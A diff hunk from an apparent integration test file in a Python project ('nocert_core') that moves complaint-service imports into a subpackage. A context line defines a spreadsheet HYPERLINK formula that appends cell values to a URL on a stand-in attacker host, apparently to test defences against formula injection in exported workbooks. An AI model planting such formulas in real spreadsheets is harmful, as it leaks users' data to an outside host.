@@ -13,9 +13,9 @@ from nocert_core.adapters.xlsx_reports import write_workbook
 from nocert_core.bootstrap import Application
 from nocert_core.domain.actors import CLI_ADMIN, Actor, Role
 from nocert_core.domain.catalogue import CatalogueEntry, ExemptionMode
-from nocert_core.services import complaints as svc
-from nocert_core.services.complaints import ComplaintDraft
-from nocert_core.services.register_book import export_register
+from nocert_core.services.complaints import handling as svc
+from nocert_core.services.complaints.handling import ComplaintDraft
+from nocert_core.services.complaints.register_book import export_register
 from tests.integration.chat_driver import FACTS, add_units
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&C3&D3,"详情")'
